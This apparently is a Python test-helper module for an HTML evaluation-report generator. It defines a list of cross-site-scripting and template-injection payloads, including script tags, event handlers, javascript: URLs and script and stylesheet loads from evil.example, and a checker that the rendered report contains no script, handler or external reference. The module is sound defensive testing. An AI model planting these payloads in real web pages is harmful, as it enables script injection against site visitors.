"""Strings that would become markup, requests or scripts if a report let them, and what a document without any looks like.

What is rendered with them is left to the tests.
"""

import base64
import hashlib
import re
from collections.abc import Callable
from dataclasses import replace
from typing import Any

from lxml import html

from newswinnow.evaluation.evaluate import Evaluation
from newswinnow.evaluation.explain import Explanation
from newswinnow.evaluation.explain_context import LevelEffect, Neighbour
from newswinnow.evaluation.explain_flip import Flip
from newswinnow.models.explain_linear import Contribution
from newswinnow.models.explain_names import FeatureName
from newswinnow.paragraphs.label import LABELS

Rows = Callable[..., list[dict[str, Any]]]
PAYLOADS = [
    "<script>window.canary = 1</script>",
    '"><img src=https://evil.example/x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style></title></textarea><script src=//evil.example/x.js></script>",
    "</summary></details><iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "{{ 7 * 7 }}{% raw %}{% endraw %}${7*7}",
    "<!--<script>--><![CDATA[<script>]]>",
    "\u2028<script>\u2029</script>\x00\x0b",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
LOADING = (
    "src",
    "href",
    "srcset",
    "data",
    "poster",
    "background",
    "action",
    "formaction",
    "ping",
    "manifest",
    "code",
    "codebase",
)
ALLOWED_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "main", "section", "div", "details", "summary"),
    *("header", "nav", "footer", "a", "ul", "ol", "li", "figure", "figcaption", "form", "label", "select", "option", "button"),
    *("input", "fieldset", "legend", "thead", "g", "polyline", "polygon", "circle", "text"),
    *("h1", "h2", "h3", "p", "span", "b", "i", "em", "br", "table", "tbody", "tr", "th", "td", "svg", "rect", "line"),
}


def assert_harmless(document: str) -> Any:
    """The parsed report, which holds no script, handler or reference to anything outside."""
    tree = html.document_fromstring(document.encode("utf-8"))
    assert tree.xpath("//script") == []
    assert {element.tag for element in tree.iter()} <= ALLOWED_TAGS
    for element in tree.iter():
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            is_inner = element.tag == "a" and name == "href" and re.fullmatch(r"#[a-z]+[0-9]*", value)
            assert is_inner or name.rsplit("}")[-1].rsplit(":")[-1] not in LOADING, name
            assert "javascript:" not in value.lower()
            assert name != "style"
    (style,) = tree.xpath("//style")
    assert not re.search(r"url\(|@import|expression", style.text)
    (policy,) = tree.xpath("//meta[@http-equiv]")
    assert policy.get("http-equiv") == "Content-Security-Policy"
    digest = base64.b64encode(hashlib.sha256(style.text.encode()).digest()).decode()
    rules = dict(rule.split(maxsplit=1) for rule in policy.get("content").split("; "))
    assert rules == {
        "default-src": "'none'",
        "style-src": f"'sha256-{digest}'",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    assert policy.getparent().index(policy) < style.getparent().index(style)
    return tree


def hostile_rows(payload: str, rows_of: Rows) -> list[dict[str, Any]]:
    """Rows of two pages with the payload wherever a corpus can put a string."""
    rows = [*rows_of("a", "NBRN-", "NNNNN"), *rows_of("b", "NBR", "NBR")]
    for i, row in enumerate(rows):
        page = "plain" if row["page"] == "b" else payload
        row.update(text=f"{payload} {i}", page=page, site=payload, tag=payload, source=payload if i % 2 else "other")
    return rows


def explained(evaluation: Evaluation, payload: str = "council") -> Evaluation:
    """An evaluation with every mistake explained, the payload wherever an explanation can put a string."""
    table = evaluation.table[evaluation.table["label"].notna()]
    wrong = table[table["label"] != table["predicted"]].to_dict("records")
    codes = {str(label): code for code, label in enumerate(LABELS)}
    found = [
        explanation_of(payload, row["page"], row["position"], row["text"], codes[row["predicted"]], codes[row["label"]])
        for row in wrong
    ]
    return replace(evaluation, explained=tuple(found))


def explanation_of(payload: str, page: str, position: int, text: str, label: int, other: int) -> Explanation:
    """Why a paragraph has one label and not another, all of it invented."""
    first, second, third = (1.5 if code == label else -0.5 if code == other else 0.0 for code in range(3))
    logits, less = (first, second, third), (-first / 4, -second / 4, -third / 4)
    probabilities = tuple(0.8 if code == label else 0.1 for code in range(3))
    names = [FeatureName("word", payload), FeatureName(payload, "first"), *(FeatureName("word", f"w{i}") for i in range(9))]
    parts = [Contribution(name, 1 + i % 2, logits if i % 3 else less) for i, name in enumerate(names)]
    return Explanation(
        page=page,
        position=position,
        text=text,
        label=label,
        other=other,
        probabilities=probabilities,
        logits=logits,
        contributions=tuple(parts),
        levels=(LevelEffect("alone", probabilities, logits), LevelEffect("bag", probabilities, less)),
        neighbours=(Neighbour(position + 1, payload, logits), Neighbour(position - 2, f"{payload} too", less)),
        flip=Flip((f"remove “{payload}”", "add a full stop"), f"{payload} edited", other, tuple(reversed(probabilities)), False),
    )
